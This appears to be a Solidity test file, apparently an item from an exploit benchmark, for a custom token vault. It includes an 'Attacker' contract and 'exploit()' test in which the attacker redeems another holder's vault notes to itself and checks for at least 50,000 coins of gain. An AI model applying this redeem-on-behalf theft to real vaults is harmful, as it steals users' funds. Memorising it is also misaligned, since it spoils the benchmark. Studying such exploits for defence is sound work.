// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

// assay-canary-56c8577e-08ef-4965-9fbf-46b1e62ca20f

import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";
import {IAccessControl} from "@openzeppelin/contracts@5.4.0/access/IAccessControl.sol";
import "./context/NoteRegister.sol";
import "./ByreVault.sol";

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
}

contract Coin is ERC20 {
    constructor() ERC20("Coin", "COIN") {
        _mint(msg.sender, 1_000_000e6);
    }

    function decimals() public pure override returns (uint8) {
        return 6;
    }
}

/// Nobody in particular.
contract Attacker {
    function pass(ByreVault vault, NoteRegister register, address holder) external {
        vault.redeem(register.balanceOf(holder), address(this), holder);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant DAIRY = address(0xDA124);
    address private constant BAILIFF = address(0xBA111FF);
    address private constant HAL = address(0x4A1);
    address private constant IDA = address(0x1DA);

    Coin public coin;
    NoteRegister public register;
    ByreVault public vault;
    Attacker public passer;

    function setUp() public {
        coin = new Coin();
        register = new NoteRegister();
        vault = new ByreVault(coin, register, DAIRY, BAILIFF);
        register.setVault(address(vault));
        coin.transfer(DAIRY, 100_000e6);
        vm.prank(DAIRY);
        coin.approve(address(vault), type(uint256).max);
        _deposit(HAL, 80_000e6);
        _deposit(IDA, 20_000e6);
        vm.startPrank(HAL);
        register.approve(address(vault), type(uint256).max);
        vault.pledge(30_000e6);
        vm.stopPrank();
        passer = new Attacker();
    }

    function _deposit(address who, uint256 coins) private returns (uint256 notes) {
        coin.transfer(who, coins);
        vm.startPrank(who);
        coin.approve(address(vault), coins);
        notes = vault.deposit(coins, who);
        vm.stopPrank();
    }

    function test_Regular() public {
        require(register.balanceOf(HAL) == 50_000e6 && vault.pledged(HAL) == 30_000e6 && vault.stock() == 100_000e6, "pledged");
        vm.prank(DAIRY);
        vault.bookProceeds(25_000e6);
        require(_deposit(IDA, 10_000e6) == 8_000e6, "at 1.25");
        vm.startPrank(BAILIFF);
        vault.release(HAL, HAL, 20_000e6);
        vault.release(HAL, DAIRY, 10_000e6);
        vault.pause();
        vault.unpause();
        vm.stopPrank();
        vm.prank(DAIRY);
        require(vault.redeem(10_000e6, DAIRY, DAIRY) == 12_500e6, "its own");
        vm.prank(HAL);
        register.approve(IDA, type(uint256).max);
        vm.prank(IDA);
        require(vault.redeem(40_000e6, IDA, HAL) == 50_000e6 && coin.balanceOf(IDA) == 50_000e6, "for another");
        vm.prank(IDA);
        register.transfer(HAL, 8_000e6);
        vm.startPrank(HAL);
        register.transfer(IDA, 8_000e6);
        require(vault.redeem(30_000e6, HAL, HAL) == 37_500e6, "the rest");
        vm.stopPrank();
        require(register.totalSupply() == 28_000e6 && vault.stock() == 35_000e6, "left");
        vault.grantRole(vault.DAIRY_ROLE(), IDA);
        vault.revokeRole(vault.DAIRY_ROLE(), IDA);
        vault.renounceRole(bytes32(0), address(this));
    }

    function _lacks(address who, bytes32 role) private {
        vm.prank(who);
        vm.expectRevert(abi.encodeWithSelector(IAccessControl.AccessControlUnauthorizedAccount.selector, who, role));
    }

    function test_RefusesStrangers() public {
        bytes32 dairy = vault.DAIRY_ROLE();
        bytes32 bailiff = vault.BAILIFF_ROLE();
        _lacks(HAL, dairy);
        vault.bookProceeds(0);
        _lacks(HAL, bailiff);
        vault.release(HAL, HAL, 1);
        _lacks(HAL, bailiff);
        vault.pause();
        vm.prank(BAILIFF);
        vault.pause();
        _lacks(HAL, bailiff);
        vault.unpause();
        vm.startPrank(HAL);
        bytes memory why = abi.encodeWithSelector(Pausable.EnforcedPause.selector);
        vm.expectRevert(why);
        vault.deposit(1, HAL);
        vm.expectRevert(why);
        vault.redeem(1, HAL, HAL);
        vm.expectRevert(why);
        vault.pledge(1);
        vm.stopPrank();
    }

    function test_RefusesAmounts() public {
        vm.prank(HAL);
        vm.expectRevert(_text("ByreVault: zero"));
        vault.redeem(0, HAL, HAL);
        vm.prank(BAILIFF);
        vm.expectRevert(_text("ByreVault: not pledged"));
        vault.release(HAL, HAL, 30_000e6 + 1);
        vm.expectRevert(_text("ByreVault: no notes"));
        vault.deposit(0, HAL);
    }

    function test_RefusesSetups() public {
        vm.expectRevert(_text("ByreVault: same token"));
        new ByreVault(register, register, DAIRY, BAILIFF);
        NoteRegister other = new NoteRegister();
        ByreVault empty = new ByreVault(coin, other, DAIRY, BAILIFF);
        vm.prank(HAL);
        vm.expectRevert(_text("NoteRegister: not the founder"));
        other.setVault(address(empty));
        other.setVault(address(empty));
        vm.expectRevert(_text("NoteRegister: has a vault"));
        other.setVault(HAL);
        vm.prank(DAIRY);
        vm.expectRevert(_text("ByreVault: no holders"));
        empty.bookProceeds(0);
    }

    function test_RefusesRegister() public {
        vm.startPrank(HAL);
        vm.expectRevert(_text("NoteRegister: not the vault"));
        register.mint(HAL, 1);
        vm.expectRevert(_text("NoteRegister: not the vault"));
        register.burn(IDA, 1);
        vm.expectRevert(_text("NoteRegister: not the vault"));
        register.spend(HAL, address(vault), 1);
        vm.stopPrank();
    }

    function _text(string memory reason) private pure returns (bytes memory) {
        return abi.encodeWithSignature("Error(string)", reason);
    }

    function exploit() public {
        passer.pass(vault, register, HAL);
    }

    function test_Exploit() public {
        exploit();
        require(coin.balanceOf(address(passer)) >= 50_000e6, "no gain");
    }

    function target() public view returns (address) {
        return address(vault);
    }

    function attacker() public view returns (address) {
        return address(passer);
    }
}
